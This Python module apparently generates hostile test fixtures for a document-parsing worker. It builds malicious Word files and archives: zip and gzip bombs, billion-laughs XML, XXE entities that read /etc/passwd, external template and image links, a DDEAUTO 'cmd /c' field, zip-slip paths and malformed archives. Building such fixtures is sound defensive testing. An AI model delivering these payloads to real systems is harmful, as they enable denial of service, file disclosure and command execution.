"""Word files and archives that mean harm."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from desk.worker.hostile.pages import zeros

_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_BODY = f"<w:document {_W}><w:body><w:p><w:r><w:t>ECOG performance status 1.</w:t></w:r></w:p>%s</w:body></w:document>"
_RELATED = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s" TargetMode="External"/>'
    "</Relationships>"
)


def packed(members: dict[str, str | bytes], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data, method)
    return out.getvalue()


def docx(more: str = "", **members: str) -> bytes:
    return packed(
        {
            "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
            "word/document.xml": _BODY % more,
            **{name.replace("__", "/").replace("_dot_", "."): data for name, data in members.items()},
        }
    )


def bomb(name: str, megabytes: int, *, says: int | None = None) -> bytes:
    """A zip of one member of so many megabytes, written by hand; `says` is the size that it claims to have."""
    raw = zeros(megabytes)[2:-4]  # without zlib's own head and sum
    size = says if says is not None else megabytes << 20
    where = name.encode()
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0, 0, len(raw), size, len(where), 0) + where
    central = struct.pack(
        "<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, 0, len(raw), size, len(where), 0, 0, 0, 0, 0, 0
    ) + where  # fmt: skip
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, len(central), len(local) + len(raw), 0)
    return local + raw + central + end


def twice() -> bytes:
    """Two texts under one name: which one is shown depends on who opens it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("word/document.xml", _BODY % "")
        archive.writestr("word/documenT.xml", (_BODY % "").replace("1.", "4."))
    return out.getvalue().replace(b"documenT", b"document")


def nested(depth: int) -> bytes:
    data: bytes = b"0" * 1000
    for number in range(depth):
        data = packed({f"level{number}.zip": data, "word/document.xml": _BODY % ""})
    return data


def locked() -> bytes:
    """A docx whose directory says that its members are encrypted."""
    data = bytearray(docx())
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        data[at + 8] |= 1
        at = data.find(b"PK\x01\x02", at + 4)
    at = data.find(b"PK\x03\x04")
    while at >= 0:
        data[at + 6] |= 1
        at = data.find(b"PK\x03\x04", at + 4)
    return bytes(data)


def laughs(root: str = "lolz") -> str:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY l0 "lol">{entities}]>'


def made(url: str) -> dict[str, bytes]:
    entity = f'<!DOCTYPE d [<!ENTITY e SYSTEM "{url}"><!ENTITY f SYSTEM "file:///etc/passwd">]>'
    whole = docx()
    return {
        "docx-bomb.docx": bomb("word/document.xml", 1500),
        "docx-bomb-that-lies.docx": bomb("word/document.xml", 1500, says=900),
        "docx-many-members.docx": packed({f"word/media/{n}.txt": "x" for n in range(6_000)}),
        "docx-entity.docx": packed({"word/document.xml": entity + _BODY % "&e;&f;"}),
        "docx-laughs.docx": packed({"word/document.xml": laughs("w:document") + _BODY % "<w:p>&l9;</w:p>"}),
        "docx-outside-template.docx": docx(
            word___rels__settings_dot_xml_dot_rels=_RELATED % ("attachedTemplate", url),
            word__settings_dot_xml=f'<w:settings {_W}><w:attachedTemplate r:id="r1" xmlns:r="r"/></w:settings>',
        ),
        "docx-outside-picture.docx": docx(
            '<w:p><w:r><w:drawing><a:blip xmlns:a="a" xmlns:r="r" r:link="r1"/></w:drawing></w:r></w:p>',
            word___rels__document_dot_xml_dot_rels=_RELATED % ("image", url),
        ),
        "docx-field-that-asks.docx": docx(
            f'<w:p><w:r><w:instrText>INCLUDETEXT "{url}"</w:instrText></w:r>'
            f'<w:fldSimple w:instr="DDEAUTO cmd /c {url}"/></w:p>'
        ),
        "docx-macros.docm": docx(word__vbaProject_dot_bin="Attribute VB_Name: Shell"),
        "docx-slips-out.docx": packed(
            {"../../../../tmp/slipped": "x", "/etc/slipped": "x", "word/document.xml": _BODY % ""}
        ),
        "docx-deep.docx": packed({"word/document.xml": _BODY % ("<w:sdt>" * 50_000 + "</w:sdt>" * 50_000)}),
        "docx-deep-recovered.docx": packed({"word/document.xml": f"<w:document {_W}><w:body>" + "<w:r>" * 5_000}),
        "docx-cut.docx": whole[: len(whole) // 2],
        "docx-locked.docx": locked(),
        "docx-without-text.docx": packed({"word/other.xml": "<x/>"}),
        "docx-odd-method.docx": whole.replace(b"\x08\x00", b"\x63\x00"),
        "docx-behind-another.docx": whole + docx("<w:p><w:r><w:t>Second.</w:t></w:r></w:p>"),
        "docx-same-name-twice.docx": twice(),
        "docx-is-a-sheet.docx": packed({"xl/workbook.xml": "<workbook/>"}),
        "docx-nested.docx": nested(30),
        "zip-bomb.zip": bomb("zeros", 1500),
        "zip-slips-out.zip": packed({"../../../../../tmp/slipped.txt": "x"}),
        "zip-in-zip.zip": packed({"a.zip": nested(5)}),
        "zip-as-page.pdf": packed({"a.txt": "x" * 100}, method=zipfile.ZIP_STORED),
        "gzip-bomb.gz": b"\x1f\x8b\x08\x00" + b"\x00" * 6 + zeros(1500)[2:-4] + struct.pack("<II", 0, 0),
        "zlib.bin": zlib.compress(b"x" * 1000),
    }
